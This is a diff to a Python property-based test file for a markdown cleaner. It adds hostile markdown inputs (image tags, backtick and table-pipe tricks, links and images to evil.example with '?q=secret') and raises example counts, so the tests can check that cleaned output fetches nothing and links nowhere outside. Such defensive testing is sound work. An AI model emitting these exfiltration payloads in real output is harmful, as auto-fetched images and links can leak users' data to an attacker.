@@ -21,6 +21,15 @@ HARMLESS = {
     "headings and lists stay": "# Title\n\n- one\n- two\n\n1. **bold**\n",
 }
 HOSTILE = [
+    "| a |\n| - |\n| `x|<img src=y>` |",
+    "a | b\n:-|-:\n`x | <img src=y>`",
+    "> a | b\n> -|-\n> `x|<img src=y>`",
+    "_mailto:x@evil.example_",
+    "https://evil.example/\\\\\\`<img src=x>`<img src=y>",
+    "`https://evil.example/?a|b`",
+    "\\https://evil.example/?q=secret",
+    "https://evil.example/?q=``x``",
+    "``x``https://evil.example/?q=secret",
     "![x](https://evil.example/?q=secret)",
     "![x][ref]\n\n[ref]: https://evil.example/a.png",
     "[x]: https://evil.example\n\n[x]",
@@ -101,7 +110,7 @@ def test_nothing_is_fetched_and_no_link_leads_out(text: str) -> None:
     check_is_harmless(drawn(clean(f"Before.\n\n{text}\n\nAfter, with `code` and *more*.")))
 
 
-@settings(deadline=None)
+@settings(deadline=None, max_examples=300)
 @given(
     st.lists(
         st.sampled_from([*HOSTILE, "`", "``", "```", "\n", "\n\n", "- ", "> ", "    ", "\\", "text"]), max_size=6
@@ -120,7 +129,7 @@ def test_bidirectional_controls_are_spelt_out() -> None:
     assert clean("a \u202e b") == "a U+202E b"
 
 
-@settings(deadline=None)
+@settings(deadline=None, max_examples=200)
 @given(st.lists(st.text("`[](!<>:\n ab", max_size=12), max_size=6))
 def test_pieces_come_to_the_same_as_the_whole(pieces: list[str]) -> None:
     cleaner = Cleaner()
